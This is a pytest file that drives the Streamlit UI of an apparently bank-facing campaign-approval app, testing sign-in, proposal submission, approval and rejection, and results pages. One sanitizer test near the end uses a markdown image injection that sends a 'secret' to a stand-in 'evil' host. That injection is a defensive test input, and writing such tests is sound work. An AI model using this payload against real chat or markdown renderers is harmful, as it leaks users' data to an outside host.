"""The pages against a real server, as Streamlit's own harness drives them."""

import io
import re
import time
from collections.abc import Callable

import httpx
import pyarrow.parquet as pq
import pytest
from pages import Pages

Visit = Callable[..., Pages]
PAGES = ("", "segments", "approvals", "results", "templates", "playbooks", "data", "house")
CANVAS = "Draft a campaign for them: push first, SMS after 3 days to those who did not buy, hold out 10%"


def submitted(visit: Visit, age: int) -> tuple[Pages, str]:
    """An operator who has just submitted a campaign for payroll customers under an age; the proposal's id."""
    pages = visit("en", "operator").ask(f"How many payroll customers under {age} have no credit card?")
    pages.ask(CANVAS).ask("Submit it for approval")
    found = re.findall(r"prop_\d+", pages.text())
    assert found, pages.text()
    return pages, found[-1]


def status(api: str, proposal: str) -> str:
    with httpx.Client(base_url=f"{api}/v1", trust_env=False) as client:
        signed_in = client.post("/sign-in", json={"account": "manager", "password": "manager-demo"}).json()
        headers = {"Authorization": f"Bearer {signed_in['token']}"}
        return str(client.get(f"/proposals/{proposal}", headers=headers).json()["status"])


@pytest.mark.parametrize("language", ["zh", "en"])
def test_signing_in(visit: Visit, language: str) -> None:
    pages = visit(language)
    assert ("先问清" if language == "zh" else "Ask, draft") in pages.text()
    assert not pages.app.chat_input
    pages.sign_in("operator")
    assert "**operator** · " + ("运营" if language == "zh" else "operator") in pages.text()
    assert pages.app.chat_input


def test_a_wrong_password_is_refused_kindly(visit: Visit) -> None:
    pages = visit("en")
    pages.app.text_input[0].set_value("operator")
    pages.app.text_input[1].set_value("wrong")
    pages.app.button[0].click().run()
    assert [error.value for error in pages.app.error] == [
        "Account or password is wrong. Try again, or ask an administrator to reset it."
    ]
    assert "operator-demo" not in pages.text()


def test_a_session_that_has_ended_says_so(visit: Visit, api: str) -> None:
    pages = visit("en", "operator")
    token = pages.app.session_state["token"]
    httpx.post(f"{api}/v1/sign-out", headers={"Authorization": f"Bearer {token}"}, trust_env=False)
    pages.app.run()
    assert "Your sign-in has ended" in pages.text()
    assert not pages.app.chat_input
    assert "token" not in pages.app.session_state


def test_a_server_that_is_away_is_said_with_its_fix(visit: Visit, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOUCHLINE_URL", "http://127.0.0.1:9")
    pages = visit("zh")
    assert "服务器没有响应" in pages.text()
    assert "touchline up" in pages.text()
    assert not pages.app.exception


@pytest.mark.parametrize(
    ("language", "account"), [("zh", "operator"), ("en", "operator"), ("zh", "approver"), ("en", "admin")]
)
def test_every_page_renders(visit: Visit, language: str, account: str) -> None:
    pages = visit(language, account)
    for name in PAGES:
        pages.go(name)
        assert not pages.app.exception, (name, pages.app.exception)
        assert not pages.app.error, (name, pages.text())
        assert not re.search(r"\b(sms|wecom|inapp)\b", "\n".join(str(table.value) for table in pages.app.table))


def test_switching_the_language_switches_every_word(visit: Visit) -> None:
    pages = visit("zh", "operator")
    assert "可以这样问" in pages.text()
    pages.app.segmented_control[0].set_value("en").run()
    assert "Try one of these" in pages.text()
    assert "可以这样问" not in pages.text()


def test_a_turn_shows_table_picture_and_evidence(visit: Visit) -> None:
    pages = visit("zh", "operator").ask("代发客户按城市分布")
    assert "| 城市 | 人数 | 占比 |" in pages.text()
    assert pages.has("vega_lite_chart") == 1
    assert "依据 (2)" in [expander.label for expander in pages.app.expander]
    assert any("GROUP BY" in code.value for code in pages.app.code)
    assert "09:00" in pages.text(), "the cut-off is told in the bank's time"
    assert not re.search(r"\dT\d\d:", pages.text()), "no instant as the machine writes it"
    assert pages.has("download_button") == 1


def test_a_question_is_answered_by_clicking_while_it_is_the_last_turn(visit: Visit) -> None:
    pages = visit("zh", "operator").ask("高净值客户有多少")
    options = [button for button in pages.app.button if str(button.key).startswith("q-")]
    assert options, pages.text()
    pages.app.button(key=options[0].key).click().run()
    assert options[0].label in [text.value for text in pages.app.text], "the option was asked as if typed"
    assert [b for b in pages.app.button if b.key == options[0].key] == [], "an answered question is not clickable"


def test_a_proposal_is_shown_whole_and_its_submitter_cannot_sign(visit: Visit, api: str) -> None:
    pages, proposal = submitted(visit, 41)
    assert pages.has("page_link") == len(PAGES) + 1, "the answer links to the proposal"
    pages.go("approvals", proposal=proposal)
    text = pages.text()
    for part in (
        "Worst-case cost ¥", "Stop line", "Message previews", "Net-reach waterfall", "Throttle forecast", "Exclusions",
        "Consent basis", "Suitability", "Claims and canvas checks", "Difference to the last approved version",
        "Everyone who touched it", "Levels and signatures", "sha256:",
    ):  # fmt: skip
        assert part in text, part
    assert "W***" in text
    assert "{name}" not in "\n".join(element.value for element in pages.app.text)
    assert "You cannot sign this one: You submitted it" in text
    assert not [button for button in pages.app.button if str(button.key).startswith("approve-")]
    assert status(api, proposal) == "pending"


def test_an_approver_reads_confirms_and_approves(visit: Visit, api: str) -> None:
    operator, proposal = submitted(visit, 42)
    pages = visit("zh", "approver").go("approvals")
    pages.app.button(key=f"open-{proposal}").click().run()
    assert pages.app.button(key=f"approve-{proposal}").disabled, "not before it is said to be read"
    pages.app.checkbox[0].check().run()
    pages.app.button(key=f"approve-{proposal}").click().run()
    assert not pages.app.error, pages.text()
    assert f"已处理：{proposal}" in pages.app.success[0].value
    assert status(api, proposal) in ("approved", "releasing", "released")
    assert "approver" in pages.text()
    operator.app.run()
    assert not operator.app.exception


@pytest.mark.slow
def test_an_operator_asks_why_a_customer_got_it_or_not(visit: Visit, api: str) -> None:
    operator, proposal = submitted(visit, 44)
    with httpx.Client(base_url=f"{api}/v1", trust_env=False, timeout=60) as client:
        for account in ("approver", "operator"):
            body = {"account": account, "password": f"{account}-demo"}
            client.headers["Authorization"] = f"Bearer {client.post('/sign-in', json=body).json()['token']}"
            if account == "approver":
                client.post(f"/proposals/{proposal}/decisions", json={"decision": "approve"}).raise_for_status()
        deadline = time.monotonic() + 60
        while not client.get(f"/proposals/{proposal}").json()["waves"] and time.monotonic() < deadline:
            time.sleep(0.5)
        audience = {"expression": "is_payroll and age < 44 and not has_credit_card"}
        customer = pq.read_table(io.BytesIO(client.post("/segments/ids", json=audience).content))["customer_id"][
            0
        ].as_py()
    operator.go("approvals", proposal=proposal)
    assert "Why did a customer get it, or not" in operator.text()
    operator.app.number_input(key=f"why-of-{proposal}").set_value(customer)
    next(button for button in operator.app.button if button.label == "Ask why").click().run()
    assert not operator.app.exception
    assert not operator.app.error, operator.text()
    assert re.search(r":material/(send|schedule|block|science):", operator.text())
    approver = visit("en", "approver").go("approvals", proposal=proposal)
    assert "Why did a customer get it, or not" not in approver.text(), "who may not export customers is not offered it"


@pytest.mark.slow
def test_a_rejection_needs_a_reason(visit: Visit, api: str) -> None:
    _, proposal = submitted(visit, 43)
    pages = visit("en", "approver").go("approvals", proposal=proposal)
    pages.app.button(key=f"reject-{proposal}").click().run()
    assert "Say why first" in pages.app.error[0].value
    assert status(api, proposal) == "pending"
    pages.app.text_area[0].set_value("Too broad.").run()
    pages.app.button(key=f"reject-{proposal}").click().run()
    assert status(api, proposal) == "rejected"
    assert "Too broad\\." in pages.text() or "Too broad." in pages.text()


@pytest.mark.slow
def test_a_decision_sends_the_digest_that_was_read(visit: Visit, api: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from ui.client import Client

    _, proposal = submitted(visit, 44)
    pages = visit("en", "approver").go("approvals", proposal=proposal)
    sent: list[object] = []
    real = Client.post

    def post(self: Client, path: str, body: dict[str, object] | None = None) -> object:
        sent.append(body)
        return real(self, path, body)

    monkeypatch.setattr(Client, "post", post)
    read = next(code.value for code in pages.app.code if code.value.startswith("sha256:"))
    pages.app.checkbox[0].check().run()
    pages.app.button(key=f"approve-{proposal}").click().run()
    decided = [body for body in sent if isinstance(body, dict) and "decision" in body]
    assert decided == [{"decision": "approve", "digest": read, "comment": ""}]


@pytest.mark.slow
@pytest.mark.parametrize("by", ["age", "city"])
def test_every_past_campaign_can_be_read_and_split(visit: Visit, by: str) -> None:
    pages = visit("zh", "manager").go("results")
    campaigns = list(pages.app.selectbox(key="campaign").options)
    assert len(campaigns) >= 5
    pages.app.selectbox(key="by").set_value(by).run()
    for index in range(len(campaigns)):
        pages.app.selectbox(key="campaign").select_index(index).run()
        assert not pages.app.exception, campaigns[index]
        assert not pages.app.error, pages.text()
        assert "分组结果" in pages.text()


def test_text_from_elsewhere_cannot_load_or_hide_anything() -> None:
    from ui import session

    assert session.plain("![x](http://evil/) $a$ :red[b]") == r"!\[x\](http\://evil/) \$a\$ \:red\[b\]"
    assert "![" not in session.markdown("see ![x](http://evil/?q=secret)")


def test_the_versions_of_the_contact_policy_are_read(visit: Visit) -> None:
    words = (("zh", "触达规则的版本", "从文件读取"), ("en", "Versions of the contact policy", "read from the file"))
    for language, title, note in words:
        pages = visit(language, "approver")
        pages.go("data")
        assert title in pages.text()
        assert any(note in str(table.value) for table in pages.app.table)
        assert not pages.app.error
